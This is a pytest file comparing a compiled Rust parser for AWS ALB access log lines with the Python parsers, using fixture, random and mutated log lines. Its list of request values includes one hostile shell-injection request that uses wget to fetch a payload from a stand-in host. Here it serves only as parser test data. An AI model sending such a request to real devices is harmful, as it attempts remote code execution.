"""The compiled record path for records of plain ALB access log lines (`consumer.native_path._elb_lines`,
`native/src/elb.rs`) against the Python parsers: the same bulk items (index, id, body, dataset, source) and
counters byte for byte whichever path parses a record, and the records it does not cover left to Python.

The records are the benchmark's corpus, Elastic's ELB test cases and the parser's own test lines packed into
records, and seeded random lines whose every field takes values each conversion treats differently (`-`,
-1, empty, quotes, IPv6, odd ports, non-ASCII, long, malformed). Every comparison also counts the records the
compiled path took, so that refusing everything cannot pass.
"""

from __future__ import annotations

import base64
import gzip
import random
from pathlib import Path

import orjson
import pytest

from consumer import native_path
from consumer.pool import IndexNaming, WorkerConfig, parse_in_worker
from parsers.options import ParseOptions
from parsers.rules import FilterRule
from tests.unit.consumer.test_native_path import STREAM, assert_same, both, parsing, wire
# The ELB parser's own test lines: the usual ALB line and lines this path leaves to Python.
from tests.unit.parsers.test_elb_logs import (
    ALB,
    ALB_NO_PRIORITY,
    ALB_SPACES,
    ALB_TARGET_LISTS,
    CLASSIC_HTTP,
    NLB,
)

pytestmark = pytest.mark.skipif(not native_path.available(), reason="secstash_native is not installed")

SHARED = Path(__file__).resolve().parents[4] / "shared"
GEOIP = SHARED / "reference" / "geoip"
FIXTURES = SHARED / "fixtures" / "elastic-aws" / "elb_logs"
needs_geoip = pytest.mark.skipif(not (GEOIP / "GeoLite2-City-Test.mmdb").is_file(), reason="no MaxMind test databases")

S3ACCESS = ('79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be awsexamplebucket1 '
            '[06/Feb/2019:00:00:38 +0000] 192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be '
            '3E57427F3EXAMPLE REST.GET.VERSIONING - "GET /awsexamplebucket1?versioning HTTP/1.1" 200 - 113 - 7 - "-" '
            '"S3Console/0.4" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= SigV2 '
            'ECDHE-RSA-AES128-GCM-SHA256 AuthHeader awsexamplebucket1.s3.us-west-1.amazonaws.com TLSV1.2')

# Values per field, the usual ones first: `line` mostly picks among the first few, so that many records are
# wholly covered, and sometimes any, so that every odd value is met.
TYPES = ["https", "http", "h2", "grpcs", "ws", "wss", "tls", "HTTP", "http2", "-"]
TIMES = ["2018-07-02T22:23:00.186641Z", "2024-02-29T23:59:59.999999Z", "2018-07-02T22:23:00Z",
         "2018-07-02T22:23:00.1Z", "2018-07-02T22:23:00.12345678901Z", "2018-02-31T00:00:00.000Z",
         "2018-13-02T22:23:00Z",
         "2018-07-02T24:00:00.000Z", "2018-07-02T22:60:00.000Z", "2018-07-02T22:23:60.000Z", "2018-07-02 22:23:00Z",
         "2018-07-02T22:23:00.186641+00:00", "2018-07-02T22:23:00.Z", "18-07-02T22:23:00Z", "0001-01-01T00:00:00.000Z",
         "9999-12-31T23:59:59.999Z", "2018-7-2T22:23:00Z", "-"]
NAMES = ["app/web-alb/50dc6c495c0c9188", "app/a/1", "-", "x", "né", 'a"b', "a\\b", "a\tb"]
ADDRESSES = ["192.168.131.39", "89.160.20.128", "81.2.69.160", "216.160.83.56", "2.125.160.216", "10.0.0.1",
             "2001:218::1", "2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6", "2001:DB8::1", "::", "::1", "0.0.0.0",
             "::ffff:89.160.20.128", "1.2.3", "01.2.3.4", "256.1.1.1", "1::2::3", "fe80::1%eth0", "[::1]", "-", ""]
PORTS = ["2817", "443", "1", "65535", "65536", "0", "080", "999999999999999999", "1234567890123456789", "-1", "+5",
         "x", ""]
SECONDS = ["0.000", "0.001", "0.013", "-1", "0.0001", "0.00001", "0.000001", "1.5", "12", "123456789.123456",
           "123456789.1234567", "000012.3400", "-1.0", "+0.5", ".5", "1.", "1e3", "1234567890.1", "0", "-", ""]
LONGS = ["200", "404", "502", "0", "399", "400", "+200", "-5", "-0", "007", "999999999999999999",
         "9999999999999999999", "2x0", "-", ""]
REQUESTS = ["GET http://www.example.com:80/ HTTP/1.1", "GET https://shop.example.com:443/api/v1/items?id=7 HTTP/1.1",
            "POST https://h:443/a/b.png HTTP/2.0", "- - -", "- - - ", "GET /index.html HTTP/1.1",
            "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1", "GET http://x:80/é HTTP/1.1",
            "GET http://x:80/a%20b HTTP/1.1", 'GET http://x:80/a"b HTTP/1.1', "GET  HTTP/1.1", "G-T / HTTP/1.1",
            "GET / HTTP/", "GET http://user@x/ HTTP/1.1", "GET http://x:1234567890/ HTTP/1.1",
            "GET http://x:123456789/ HTTP/1.1", "GET http://x.:80/ HTTP/1.1", "GET http://-x/ HTTP/1.1",
            "GET http://1.2.3.4:80/ HTTP/1.1", "GET http://1.2.3.400:80/ HTTP/1.1", "GET / HTTP/1.1 HTTP/1.0",
            "GET /a.b/c. HTTP/1.1", "GET /?q HTTP/1.1", "GET /? HTTP/1.1", "GET ? HTTP/1.1", "GET http://x/#f HTTP/1.1",
            "GET \t/ HTTP/1.1", "GET http://x:80 HTTP/1.1", "GET http://x:80- -", "- http://www.example.com:80- -",
            "GET - HTTP/1.1", "GET https://a.b.c.example.com:8443/x/y.tar.gz?a=b?c HTTP/1.1", "GET http:/x HTTP/1.1",
            "GET http://x_y/ HTTP/1.1", "GET http://1x/ HTTP/1.1", "GET http://x/[a] HTTP/1.1", "GET *:443 HTTP/1.1",
            "CONNECT example.com:443 HTTP/1.1", "GET /a\x01b HTTP/1.1", "-", "",
            "GET https://shop.example.com:443/search?q=a%20b%2Fc HTTP/1.1", "GET /a%2Fb.%50NG HTTP/1.1"]
AGENTS = ["curl/7.46.0", ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                         "Chrome/120.0.0.0 Safari/537.36"), "aws-sdk-go/1.44.0 (go1.20; linux; amd64)", "", "-",
          "Hello, world",
          "Mozilla/5.0 (é)", 'quo"te', "tab\there", "back\\slash", "ctl\x01\x1f", "x" * 2000]
CIPHERS = ["ECDHE-RSA-AES128-GCM-SHA256", "-", "TLS_AES_128_GCM_SHA256", "a\\b", 'x"y', "é"]
PROTOCOLS = ["TLSv1.2", "-", "TLSv1.3", "tlsv12", "TLSv", "v", "TLSv1v2", "SSLv3", "tls", "vTLS"]
GROUPS = ["arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067", "-", "x"]
TRACES = ["Root=1-58337262-36d228ad5d99923122bbe354", "-", "", "a\\b\tc\x01", "é", "Self=1-a;Root=1-b"]
DOMAINS = ["www.example.com", "-", "", "é.example", "a b"]
CERTS = ["arn:aws:acm:us-east-1:123456789012:certificate/2a108f19", "-", ""]
PRIORITIES = ["0", "-1", "10000", "1.5", "+3", "-", "1.", "abc", "-2", ".5"]
ACTIONS = ["forward", "forward,redirect", "-", "waf,forward", "", ",forward", "forward,", ",", "fixed-response"]
URLS = ["-", "https://x.example.com:443/", "", "a b"]
REASONS = ["-", "TargetConnectionError", "", "LambdaInvalidResponse"]
TRAILING = ['"10.0.0.1:80"', '"200"', '"-"', '"10.0.0.1:80 10.0.0.2:80"', '"- 502"', '" "', '""', '"200 "',
            '"Acceptable"', '"UndefinedContentLengthSemantics"', "TID_1", '"www.example.com"', '"unterminated', "-"]


def pick(rng: random.Random, values: list[str], usual: int = 3) -> str:
    return rng.choice(values[:usual] if rng.random() < 0.96 else values)


def line(rng: random.Random) -> str:
    """A line of an ALB access log, every field drawn from its values."""
    def hostport() -> str:
        return f"{pick(rng, ADDRESSES, 8)}:{pick(rng, PORTS, 4)}"
    fields = [pick(rng, TYPES, 6), pick(rng, TIMES, 2), pick(rng, NAMES, 2), hostport(),
              "-" if rng.random() < 0.2 else hostport(), pick(rng, SECONDS, 4), pick(rng, SECONDS, 4),
              pick(rng, SECONDS, 4), pick(rng, LONGS, 6), pick(rng, LONGS, 6) if rng.random() < 0.8 else "-",
              pick(rng, LONGS, 4), pick(rng, LONGS, 4), f'"{pick(rng, REQUESTS, 7)}"', f'"{pick(rng, AGENTS, 7)}"',
              pick(rng, CIPHERS, 2), pick(rng, PROTOCOLS, 3), pick(rng, GROUPS, 2), f'"{pick(rng, TRACES, 2)}"',
              f'"{pick(rng, DOMAINS, 2)}"', f'"{pick(rng, CERTS, 2)}"', pick(rng, PRIORITIES, 3), pick(rng, TIMES, 2),
              f'"{pick(rng, ACTIONS, 4)}"', f'"{pick(rng, URLS, 2)}"', f'"{pick(rng, REASONS, 2)}"']
    fields += [pick(rng, TRAILING, 10) for _ in range(rng.randrange(8))]
    return " ".join(fields)


def mutated(rng: random.Random, text: str) -> str:
    """The text with a few characters inserted, deleted or replaced."""
    chars = list(text)
    for _ in range(rng.randrange(1, 4)):
        at = rng.randrange(len(chars) + 1)
        choice = rng.random()
        new = rng.choice([" ", '"', "-", "0", "9", ":", ".", "a", "é", "\t", "\\", "\x00", "1"])
        if choice < 0.4 and at < len(chars):
            del chars[at]
        elif choice < 0.7:
            chars.insert(at, new)
        elif at < len(chars):
            chars[at] = new
    return "".join(chars)


def lines_record(lines: list[str], ending: str = "\n") -> bytes:
    return (ending.join(lines) + ending).encode()


@needs_geoip
def test_geoip_fields_are_the_same_including_networks_the_cache_already_holds() -> None:
    rng = random.Random(11)
    lines = []
    for _ in range(1_500):  # addresses of few networks, so most look-ups are answered from the cache
        if rng.random() < 0.7:
            first = rng.choice([2, 81, 89, 175, 216])
            address = f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        else:
            address = f"{rng.choice(['2001:218', '2a02:cf40', '2001:480'])}::{rng.randrange(1, 0xffff):x}"
        lines.append(ALB.replace("192.168.131.39:2817", f"{address}:{rng.randrange(1, 65536)}"))
    records = [wire(lines_record(lines[i:i + 10]), i) for i in range(0, len(lines), 10)]
    python, native = both(records, parsing(), ParseOptions(geoip_dir=str(GEOIP)))
    assert native.native_records == len(records)
    assert sum(b'"geo":' in item.body for item in native.items) > 100
    assert_same(python, native)


@pytest.mark.parametrize("geoip", [False, pytest.param(True, marks=needs_geoip)])
def test_elastic_test_cases_and_the_parsers_lines_packed_into_records(geoip: bool) -> None:
    elastic = [text for path in sorted(FIXTURES.glob("*/test-*.log")) for text in path.read_text().splitlines() if text]
    if not elastic:
        pytest.skip("Elastic's ELB test cases not found")
    covered = [*elastic, ALB, ALB_TARGET_LISTS]
    records = [wire(lines_record([text]), n) for n, text in enumerate(covered)]
    records.append(wire(lines_record(covered * 3), 90))
    # Not covered: a `-` priority (read by the Classic pattern), Classic and NLB lines, a url with a space
    # (`uri_parts` reads it as java.net.URL does).
    refused = [ALB_NO_PRIORITY, CLASSIC_HTTP, NLB, ALB_SPACES]
    records += [wire(lines_record([text]), 100 + n) for n, text in enumerate(refused)]
    python, native = both(records, parsing(), ParseOptions(geoip_dir=str(GEOIP) if geoip else None,
                                                           keep_original=True))
    assert native.native_records == len(covered) + 1
    assert_same(python, native)


@pytest.mark.parametrize("seed", range(4))
def test_random_fields_at_their_edges(seed: int) -> None:
    rng = random.Random(seed)
    records = [wire(lines_record([line(rng) for _ in range(rng.randrange(1, 4))]), n) for n in range(400)]
    options = ParseOptions(keep_original=seed % 2 == 0, geoip_dir=str(GEOIP) if seed >= 2 else None)
    python, native = both(records, parsing(), options)
    assert native.native_records > 90  # the generator reaches the compiled path, not only the fallback
    assert_same(python, native)


@pytest.mark.parametrize("seed", range(3))
def test_mutated_lines(seed: int) -> None:
    rng = random.Random(100 + seed)
    sources = [ALB, ALB_SPACES, ALB_TARGET_LISTS]
    records = [wire(lines_record([mutated(rng, rng.choice(sources))]), n) for n in range(400)]
    python, native = both(records, parsing())
    assert native.native_records > 70
    assert_same(python, native)


def test_labels_namespace_and_a_stream_forced_to_elb_logs() -> None:
    rng = random.Random(5)
    records = [wire(lines_record([line(rng) for _ in range(rng.randrange(1, 3))]), n) for n in range(200)]
    stream_parsing = parsing(dataset="elb_logs", detection=(), labels=(("env", "prod"), ("team", 'sec"ops')),
                             namespace="prod")
    python, native = both(records, stream_parsing)
    assert native.native_records > 30
    assert_same(python, native)


@pytest.mark.parametrize("ending", ["\r\n", "\n\n", "\n \t\n"])
def test_line_endings_and_blank_lines_number_events_as_python_does(ending: str) -> None:
    python, native = both([wire(lines_record([ALB, ALB_TARGET_LISTS, ALB], ending))], parsing())
    assert native.native_records == 1 and len(native.items) == 3
    assert_same(python, native)


@pytest.mark.parametrize("case", ["classic", "nlb", "s3access", "no_priority", "json", "gzip", "not_utf8",
                                  "leading_blank", "too_many_events", "forced_elsewhere", "late_arrival",
                                  "unicode_blank", "bad_base64"])
def test_records_it_does_not_cover_take_the_python_path(case: str) -> None:
    data, options, arrival, stream_parsing = lines_record([ALB, ALB]), ParseOptions(), 1_793_491_200_000, parsing()
    if case == "classic":  # a record mixing an ALB line with another goes to Python whole
        data = lines_record([ALB, CLASSIC_HTTP])
    elif case == "nlb":
        data = lines_record([ALB, NLB])
    elif case == "s3access":
        data = lines_record([ALB, S3ACCESS, ALB])
    elif case == "no_priority":
        data = lines_record([ALB, ALB_NO_PRIORITY])
    elif case == "json":
        data = lines_record([ALB, orjson.dumps({"message": ALB}).decode()])
    elif case == "gzip":
        data = gzip.compress(data, mtime=0)
    elif case == "not_utf8":
        data = lines_record([ALB.replace("curl/7.46.0", "curl\xff")]).replace("ÿ".encode(), b"\xff")
    elif case == "leading_blank":
        data = b"\n" + data
    elif case == "too_many_events":
        data, options = lines_record([ALB] * 11), ParseOptions(max_events_per_object=10)
    elif case == "forced_elsewhere":
        stream_parsing = parsing(dataset="cloudwatch_logs")
    elif case == "late_arrival":
        arrival = 4_000_000_000_000
    elif case == "unicode_blank":
        data = lines_record([ALB, "\u3000", ALB])
    records = [wire(data, 0, arrival)]
    if case == "bad_base64":
        records[0][4] = records[0][4][:-4] + "====" if records[0][4].endswith("=") else records[0][4] + "\n"
    python, native = both(records, stream_parsing, options)
    assert native.native_records == 0
    assert_same(python, native)


def test_exactly_as_many_lines_as_allowed_are_covered() -> None:
    python, native = both([wire(lines_record([ALB] * 10))], parsing(), ParseOptions(max_events_per_object=10))
    assert native.native_records == 1
    assert_same(python, native)


@pytest.mark.parametrize("overrides", [{"filters": (FilterRule("drop", conditions=()),)}], ids=["filters"])
def test_streams_whose_settings_it_does_not_cover_take_the_python_path(overrides: dict) -> None:
    python, native = both([wire(lines_record([ALB]))], parsing(**overrides))
    assert native.native_records == 0
    assert_same(python, native)


def test_dated_indices_take_the_python_path() -> None:
    python, native = both([wire(lines_record([ALB]))], parsing(), naming=IndexNaming("secstash-{dataset}-{date}"))
    assert native.native_records == 0
    assert_same(python, native)


def test_processing_times_are_written_as_orjson_writes_their_floats() -> None:
    rng = random.Random(8)
    texts = [f"{rng.randrange(10 ** rng.randrange(1, 10))}.{rng.randrange(10 ** 9):0{rng.randrange(1, 10)}d}"[:20]
             for _ in range(2_000)]
    texts += ["0.0001", "0.00010", "0.0009999", "0.1", "100000000", "999999999.999999", "0.000000000", "1.000000001"]
    lines = [ALB.replace(" 0.000 0.001 0.000 ", f" {text} 0.001 {text} ") for text in texts]
    records = [wire(lines_record([text]), n) for n, text in enumerate(lines)]
    python, native = both(records, parsing())
    assert native.native_records > len(records) // 2
    assert_same(python, native)


def test_turned_off_every_record_takes_the_python_path() -> None:
    config = WorkerConfig({STREAM: parsing()}, ParseOptions(), native_records=False)
    data = base64.b64encode(lines_record([ALB])).decode()
    assert parse_in_worker(STREAM, "shardId-000000000007", [["1", 0, 1_793_491_200_000, "pk", data]],
                           config).native_records == 0


def test_addresses_are_taken_as_inet_pton_takes_them() -> None:
    # Rust's address parser and glibc's inet_pton differ in corner cases; a line whose client address one
    # takes and the other refuses must not be rendered differently.
    rng = random.Random(21)

    def address() -> str:
        kind = rng.random()
        if kind < 0.3:
            octets = ["0", "1", "01", "255", "256", "00", "999", "10", ""]
            return ".".join(rng.choice(octets) for _ in range(rng.choice([3, 4, 4, 5])))
        hextets = ["0", "1", "ffff", "FFFF", "0db8", "12345", "", "abcd", "g", "00000"]
        groups = [rng.choice(hextets) for _ in range(rng.randrange(1, 10))]
        text = ":".join(groups)
        if rng.random() < 0.4:
            at = rng.randrange(len(text) + 1)
            text = text[:at] + "::" + text[at:]
        if rng.random() < 0.1:
            text += ":1.2.3.4"
        return text

    lines = [ALB.replace("192.168.131.39:2817", f"{address()}:443") for _ in range(1_500)]
    records = [wire(lines_record([text]), n) for n, text in enumerate(lines)]
    python, native = both(records, parsing())
    assert native.native_records > 60
    assert_same(python, native)


# Percent escapes: `uri_parts` reads these as java.net.URI does (path and query decoded, its own key order).
ESCAPED = ["https://shop.example.com:443/search?q=a%20b%2Fc", "/a%2Fb.%50NG", "https://x:443/%E2%82%AC",
           "https://x:443/%FF", "https://x:443/a%2", "https://x:443/a%zz", "https://x:/a%20", "https://u@x/a%20",
           "https://x:443/a.%41?", "https://x:443/a%00b", "//x/a%20", "http:x%20", "https://x.com:443?q=%41",
           "https://x:1234567890/a%20", "https://x:0/a.%20", "https://x:443/a/b.?q=%25", "https://x:443/%2e%2E",
           "https://1.2.3.4:80/%41", "https://1.2.3.4000:80/%41", "https://-x:80/%41", "https:///a%41",
           "https://x:443/a%41#f", "https://x:443/[%41]", "/a%41?b?c%3F", "a%41", "https://x:443/a b%41",
           "https://x.example.com.:443/%7E/", "https://x:443", "https://x:44%33/", "https://x%41:443/"]


def test_urls_with_percent_escapes_read_as_java_net_uri_reads_them() -> None:
    rng = random.Random(13)
    lines = []
    for _ in range(600):
        uri = rng.choice(ESCAPED)
        if rng.random() < 0.5:  # an escape of any byte somewhere in it
            at = rng.randrange(len(uri) + 1)
            uri = uri[:at] + f"%{rng.randrange(256):02{rng.choice('xX')}}" + uri[at:]
        lines.append(ALB.replace("GET http://www.example.com:80/ HTTP/1.1", f"GET {uri} HTTP/1.1"))
    records = [wire(lines_record([text]), n) for n, text in enumerate(lines)]
    python, native = both(records, parsing())
    assert native.native_records > 150
    assert_same(python, native)
